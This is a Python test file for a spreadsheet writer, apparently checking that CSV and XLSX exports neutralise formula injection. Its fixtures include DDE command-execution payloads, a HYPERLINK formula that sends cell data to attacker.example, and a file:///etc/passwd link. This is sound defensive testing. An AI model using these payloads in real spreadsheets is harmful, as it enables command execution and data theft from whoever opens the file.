import csv
import io
import random
import re
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from xuefen.core.spreadsheet_writer import write_csv, write_xlsx
from xuefen.core.spreadsheets import read_table

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", '"=', ";=", "%0A="]
ENDS = [
    'cmd|"/C calc"!A0',
    'HYPERLINK("http://attacker.example?"&A1,"点我")',
    "1+1",
    'DDE("cmd";"/C calc";"x")',
    "WEBSERVICE(A1)",
    "王芳",
]
LINKS = [
    "http://attacker.example",
    "https://x",
    "mailto:a@b",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "external:c:\\x",
]


def hostile_names(count: int = 1000) -> list[str]:
    picked = random.Random(20141025)
    made = [f"{picked.choice(STARTS)}{picked.choice(ENDS)}{n}" for n in range(count - len(LINKS))]
    return [*made, *LINKS]


def parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name).decode() for name in package.namelist()}


async def test_a_thousand_hostile_names_make_no_formula_and_no_link() -> None:
    data = await write_xlsx(["姓名"], [[name] for name in hostile_names()])
    written = parts(data)
    page = written["xl/worksheets/sheet1.xml"]
    assert "<f>" not in page
    assert "hyperlink" not in page
    assert set(re.findall(r'<c r="A\d+" s="\d+" t="(\w+)"', page)) == {"s"}
    assert not any("externalLink" in name or "rels/sheet" in name for name in written)


async def test_what_is_written_is_read_again() -> None:
    rows = [
        ["T0001", "王芳", "11010519491231002X"],
        ["0012", "𠮷田", "430203199002280017"],
        ["-7.20", "", "x\ny"],
    ]
    table = await read_table(await write_xlsx(["工号", "姓名", "身份证号"], rows), "a.xlsx")
    assert [list(row.cells) for row in table.rows] == rows
    assert all(not row.lost_digits for row in table.rows)


async def test_every_cell_has_the_format_text() -> None:
    written = parts(await write_xlsx(["a"], [["1"]]))
    assert 'numFmtId="49"' in written["xl/styles.xml"]
    assert 's="0"' not in written["xl/worksheets/sheet1.xml"]


async def test_a_cell_that_is_too_long_for_excel_is_cut() -> None:
    written = parts(await write_xlsx(["a"], [["x" * 40_000]]))
    assert "x" * 32_767 in written["xl/sharedStrings.xml"]
    assert "x" * 32_768 not in written["xl/sharedStrings.xml"]


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_a_csv_has_no_cell_that_excel_would_compute() -> None:
    for (cell,) in rows_of(write_csv(["姓名"], [[name] for name in hostile_names()])):
        assert cell[0] not in "=+-@\t\r\n＝＋－＠", cell
        assert cell.lstrip()[0] not in "=+-@＝＋－＠", cell


def test_numbers_in_a_csv_stay_numbers() -> None:
    assert rows_of(write_csv(["a"], [["-7.20"], ["-5"], ["-"], ["-1+1"]]))[1:] == [
        ["-7.20"],
        ["-5"],
        ["'-"],
        ["'-1+1"],
    ]


def test_a_csv_is_known_to_excel_by_its_first_bytes() -> None:
    assert write_csv(["工号"], []) == b'\xef\xbb\xbf"' + "工号".encode() + b'"\r\n'


@given(st.lists(st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=20), min_size=1, max_size=5))
def test_a_csv_brings_every_passive_text_back(row: list[str]) -> None:
    (written,) = rows_of(write_csv(row, []))
    assert [cell.removeprefix("'") for cell in written] == [cell.removeprefix("'") for cell in row]


@settings(max_examples=20, deadline=None)
@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
@pytest.mark.filterwarnings("ignore")
async def test_any_text_makes_a_workbook(row: list[str]) -> None:
    clean = [text.encode("utf-8", "ignore").decode() for text in row]
    assert (await write_xlsx(clean, [clean]))[:2] == b"PK"
